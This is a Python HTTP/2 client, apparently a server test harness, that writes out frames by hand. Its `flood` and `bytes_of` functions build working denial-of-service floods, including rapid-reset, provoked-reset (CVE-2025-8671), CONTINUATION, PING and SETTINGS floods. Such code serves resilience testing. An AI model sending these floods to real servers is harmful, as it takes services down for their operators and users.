# SPDX-License-Identifier: Apache-2.0
"""An HTTP/2 client that sends frames as it is told, also wrong ones and far too many. No Huffman, no
dynamic table: what it sends can be read in a dump, and what it gets is asked to be sent in the same way
(a table size of nought)."""
import socket
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
KINDS = {0: "data", 1: "headers", 3: "reset", 4: "settings", 6: "ping", 7: "goaway", 8: "window"}


def frame(kind, flags, stream, payload=b""):
    return (len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload)


def integer(value, bits, first):
    """RFC 7541 5.1"""
    top = (1 << bits) - 1
    if value < top:
        return bytes([first | value])
    out, value = bytes([first | top]), value - top
    while value >= 128:
        out, value = out + bytes([value % 128 + 128]), value // 128
    return out + bytes([value])


def text(s):
    raw = s.encode("latin-1")
    return integer(len(raw), 7, 0) + raw


def fields(pairs):
    """Literals without indexing."""
    return b"".join(b"\0" + text(k) + text(v) for k, v in pairs)


def request(authority, path, method="GET", more=()):
    return fields([(":method", method), (":scheme", "http"), (":authority", authority), (":path", path)] +
                  list(more))


class Client:
    def __init__(self, stream, settings=()):
        self.stream, self.seen = stream, []
        self.send(PREFACE + frame(4, 0, 0, b"".join(
            i.to_bytes(2, "big") + v.to_bytes(4, "big") for i, v in [(1, 0)] + list(settings))))

    def send(self, data):
        try:
            self.stream.sock.sendall(data)
        except OSError:
            pass  # what is read tells why

    def next(self):
        """(kind, flags, stream, payload); None at the end."""
        got = []
        try:
            if not self.stream.exactly(9, got.append):
                return None
            head = b"".join(got)
            got = []
            if not self.stream.exactly(int.from_bytes(head[:3], "big"), got.append):
                return None
        except ConnectionError:
            return None
        payload = b"".join(got)
        kind, flags, stream = head[3], head[4], int.from_bytes(head[5:], "big") & 0x7fffffff
        if kind == 4 and not flags & 1:
            self.send(frame(4, 1, 0))
        elif kind == 6 and not flags & 1:
            self.send(frame(6, 1, 0, payload))
        return kind, flags, stream, payload

    def until(self, want, seconds=10):
        """The first frame that `want` likes; what came before is in `seen`."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            f = self.next()
            if f is None:
                return None
            self.seen.append(f)
            if want(*f):
                return f
        return None

    def told(self):
        return ", ".join("%s%s %d (%s)" % (KINDS.get(k, k), "!" if fl & 1 else "", s,
                                           p if k == 7 else "%d bytes" % len(p))
                         for k, fl, s, p in self.seen[-20:])


def flood(client, kind, n, authority):
    """An attack. Where streams end by the other side's word, some at a time, as more of them than may be
    open would be another fault."""
    if kind in ("malformed", "made-reset"):
        # No more than 100 under way, as whoever reads has seen: it is to be a flood of resets, not of streams.
        for i in range(0, n, 50):
            client.send(bytes_of(kind, range(i, i + 50), authority))
            end = time.monotonic() + 5
            while sum(f[0] == 3 for f in client.seen) < i - 50 and time.monotonic() < end:
                time.sleep(0.005)
    else:
        client.send(bytes_of(kind, range(n), authority))


def bytes_of(kind, numbers, authority):
    n = len(numbers)
    head = request(authority, "/")
    if kind == "rapid-reset":
        return b"".join(frame(1, 5, 2 * i + 1, head) + frame(3, 0, 2 * i + 1, b"\0\0\0\x08")
                        for i in numbers)
    if kind == "made-reset":  # each provokes a reset from the other side (CVE-2025-8671)
        short = request(authority, "/", "POST", [("content-length", "1")])
        return b"".join(frame(1, 4, 2 * i + 1, short) + frame(0, 0, 2 * i + 1, b"xx") for i in numbers)
    if kind == "malformed":
        bad = request(authority, "/", more=[("Upper", "x")])
        return b"".join(frame(1, 5, 2 * i + 1, bad) for i in numbers)
    if kind == "continuation":
        return frame(1, 1, 1, head) + frame(9, 0, 1, fields([("x", "y")])) * n
    if kind == "ping":
        return frame(6, 0, 0, b"12345678") * n
    if kind == "settings":
        return frame(4, 0, 0) * n
    if kind == "empty-data":
        return frame(1, 4, 1, request(authority, "/", "POST")) + frame(0, 0, 1) * n
    if kind == "priority":
        return b"".join(frame(2, 0, 2 * i + 1, b"\0\0\0\0\x10") for i in numbers)
    if kind == "window":
        return frame(8, 0, 0, b"\0\0\0\1") * n
    if kind == "unknown":
        return frame(0x60, 0, 0, b"x") * n
    if kind == "stray-reset":
        return frame(1, 5, 1, head) + frame(3, 0, 1, b"\0\0\0\x08") * n
    if kind == "streams":
        return b"".join(frame(1, 5, 2 * i + 1, head) for i in numbers)
    if kind == "unread-acks":  # content earns the right to further frames that carry nothing
        return frame(1, 4, 3, request(authority, "/", "POST")) + b"".join(
            frame(6, 0, 0, b"12345678") * 10 + frame(0, 0, 3, b"x") for _ in range(n // 10))
    raise ValueError(kind)
